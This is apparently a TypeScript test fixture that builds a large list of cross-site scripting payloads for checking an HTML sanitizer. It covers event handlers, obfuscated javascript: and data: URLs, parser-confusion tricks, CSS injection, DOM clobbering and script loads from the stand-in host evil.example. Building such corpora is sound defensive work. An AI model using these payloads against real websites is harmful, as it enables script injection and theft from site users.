/** Ways in which HTML runs, loads or navigates, by the place where they hide. Written for this product. */
const SCRIPT = 'alert(1)'
const handlers = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'onanimationend', 'ontoggle', 'onpointerenter', 'onbegin', 'onwheel',
  'onscroll', 'oncut', 'onpaste', 'onhashchange', 'onpageshow', 'onmessage', 'ONERROR', 'onError', 'onauxclick', 'onbeforematch', 'onscrollend',
]
const elements = ['img', 'svg', 'body', 'div', 'input autofocus', 'video', 'audio', 'details open', 'marquee', 'a', 'table', 'select', 'iframe', 'math', 'form']
const urls = [
  `javascript:${SCRIPT}`, `JaVaScRiPt:${SCRIPT}`, ` javascript:${SCRIPT}`, `java\tscript:${SCRIPT}`, `java\nscript:${SCRIPT}`, `java\0script:${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`, `&#x6A;avascript:${SCRIPT}`, `&#0000106avascript:${SCRIPT}`, `javascript&colon;${SCRIPT}`, `java&Tab;script:${SCRIPT}`,
  `java&NewLine;script:${SCRIPT}`, `\u0001javascript:${SCRIPT}`, `vbscript:msgbox(1)`, `data:text/html,<script>${SCRIPT}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', `feed:javascript:${SCRIPT}`,
  `view-source:javascript:${SCRIPT}`, `//evil.example/x`, `\\\\evil.example\\x`, `jav&#x09;ascript:${SCRIPT}`, `\u2028javascript:${SCRIPT}`, 'file:///etc/passwd',
]
const linkers = ['a href', 'img src', 'iframe src', 'form action', 'button formaction', 'object data', 'embed src', 'base href', 'area href', 'link href', 'img srcset', 'video poster', 'body background', 'table background', 'input src', 'svg><use href', 'math href']
const styles = [
  'background:url(javascript:alert(1))', 'background-image:url(https://evil.example/x)', 'width:expression(alert(1))', 'behavior:url(x.htc)',
  '-moz-binding:url(x)', 'position:fixed;top:0;left:0;width:100vw;height:100vh', 'list-style:url(https://evil.example)', 'cursor:url(https://evil.example)',
  'content:url(https://evil.example)', 'background:\\75rl(https://evil.example)', '@import "https://evil.example"', 'color:red;}</style><script>alert(1)</script>',
  'filter:progid:DXImageTransform', 'font-family:"</style><img src=x onerror=alert(1)>"', 'width:calc(1px);background:image-set("https://evil.example/a")',
  'background:u/**/rl(https://evil.example)', 'border-image:url(https://evil.example)', 'mask:url(https://evil.example)', 'animation-name:x;transform:scale(99)',
]
const structures = [
  `<script>${SCRIPT}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${SCRIPT}</script>`, `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<<script>${SCRIPT};//<</script>`, `<style>@import 'https://evil.example'</style>`, `<style><img src="</style><img src=x onerror=${SCRIPT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`, `<svg><script>${SCRIPT}</script></svg>`, `<svg><style><img src=x onerror=${SCRIPT}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${SCRIPT}</script></annotation-xml></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SCRIPT}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`, `<template><script>${SCRIPT}</script></template>`, `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`, `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`, `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="javascript:${SCRIPT}//">`, `<link rel=stylesheet href=https://evil.example>`, `<link rel=prefetch href=https://evil.example>`, `<textarea><script>${SCRIPT}</script></textarea>`,
  `<title><img src=x onerror=${SCRIPT}></title>`, `<xmp><img src=x onerror=${SCRIPT}></xmp>`, `<plaintext><script>${SCRIPT}</script>`, `<noembed><img src=x onerror=${SCRIPT}></noembed>`,
  `<!--><img src=x onerror=${SCRIPT}>-->`, `<!--[if gte IE 4]><script>${SCRIPT}</script><![endif]-->`, `<![CDATA[<img src=x onerror=${SCRIPT}>]]>`, `<?xml-stylesheet href="javascript:${SCRIPT}"?>`,
  `<img src="x" title="><script>${SCRIPT}</script>">`, `<img """><script>${SCRIPT}</script>">`, `<img src=x:x onerror=${SCRIPT} //`, `<a href="x" id=location name=body class=a>clobber</a>`,
  `<form id=app><input name=getElementById></form>`, `<video><source onerror=${SCRIPT}></video>`, `<dialog open><button autofocus onfocus=${SCRIPT}></dialog>`, `<portal src=https://evil.example></portal>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${SCRIPT}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><iframe src="javascript:${SCRIPT}"></foreignObject></svg>`,
  `<select><style></select><img src=x onerror=${SCRIPT}></style>`, `<table><td background="javascript:${SCRIPT}">`, `<div contenteditable autofocus onfocus=${SCRIPT}>`, `<slot name=x></slot><x-custom onclick=${SCRIPT}>`,
]

export const XSS_VECTORS: readonly string[] = [
  ...structures,
  ...elements.map((element, index) => `<${element} src=x ${handlers[index % handlers.length]}=${SCRIPT}>x`),
  ...handlers.map((handler) => `<b ${handler}="${SCRIPT}">x</b>`),
  ...handlers.map((handler) => `<img/src=x/${handler}=${SCRIPT}>`),
  ...urls.flatMap((url) => [`<a href="${url}">x</a>`, `<img src="${url}">`]),
  ...linkers.map((linker, index) => `<${linker}="${urls[index % urls.length]}">x`),
  ...styles.flatMap((style) => [`<p style="${style}">x</p>`, `<style>p{${style}}</style><p>x</p>`]),
]
